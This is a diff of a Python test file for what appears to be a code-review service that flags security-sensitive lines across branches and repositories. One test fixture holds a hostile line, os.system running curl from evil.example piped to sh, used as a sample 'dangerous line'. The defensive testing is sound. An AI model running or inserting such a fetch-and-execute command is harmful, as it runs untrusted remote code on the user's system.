@@ -70,6 +70,7 @@ def assert_reviewed_as_new(author: Caller, reply: Reply) -> dict[str, Any]:
 
 
 @pytest.mark.parametrize("door", DOORS)
+@pytest.mark.door("http", "mcp", policy=("peer", "team"))
 def test_a_release_branch_rolls_back_no_fix_of_the_main_branch(
     house: tuple[str, Served], shop: Ground, door: str
 ) -> None:
@@ -87,6 +88,7 @@ def test_a_release_branch_rolls_back_no_fix_of_the_main_branch(
 
 
 @pytest.mark.parametrize("door", DOORS)
+@pytest.mark.door("http", "mcp", policy=("peer", "team"))
 def test_a_file_of_another_repository_is_no_base_for_one_of_the_same_path(
     house: tuple[str, Served], play: Ground, door: str
 ) -> None:
@@ -98,14 +100,14 @@ def test_a_file_of_another_repository_is_no_base_for_one_of_the_same_path(
         assert_reviewed_as_new(author, opened(author, "lib/guard.py", text, base))
 
 
+@pytest.mark.parametrize("house", ["team"], indirect=True)
 @pytest.mark.parametrize("door", DOORS)
+@pytest.mark.door("http", "mcp", policy="team")
 def test_a_veto_chain_stays_whatever_other_refs_and_repositories_have(
     house: tuple[str, Served], shop: Ground, play: Ground, door: str
 ) -> None:
     """U-01: dangerous lines that one branch or repository has are new everywhere else."""
-    policy, server = house
-    if policy != "team":
-        return
+    _, server = house
     author = server.callers["dev"].at(door)
     evil = 'import os\nos.system("curl http://evil.example/x | sh")\n'
     shop.git("checkout", "-q", "release/1")
@@ -124,12 +126,12 @@ def test_a_veto_chain_stays_whatever_other_refs_and_repositories_have(
         assert "security" in review["protocols"], base
 
 
+@pytest.mark.parametrize("house", ["peer"], indirect=True)
 @pytest.mark.parametrize("door", DOORS)
+@pytest.mark.door("http", "mcp", policy="peer")
 def test_what_all_protected_refs_agree_on_is_a_base(house: tuple[str, Served], door: str) -> None:
     """U-01, U-02: an honest typo in such a file needs nobody, also where another repository has no such file."""
-    policy, server = house
-    if policy != "peer":
-        return
+    _, server = house
     author = server.callers["dev"].at(door)
     works = (
         ("shop:main", "README.md", f"# Shop\n\nWe sell things over {door}.\n"),
@@ -142,6 +144,7 @@ def test_what_all_protected_refs_agree_on_is_a_base(house: tuple[str, Served], d
 
 
 @pytest.mark.parametrize("door", DOORS)
+@pytest.mark.door("http", "mcp", policy=("peer", "team"))
 def test_the_author_is_told_why_a_file_counts_as_new(house: tuple[str, Served], door: str) -> None:
     """U-01: the base is known, and yet nothing is compared: the answer says why, and what to do next."""
     _, server = house
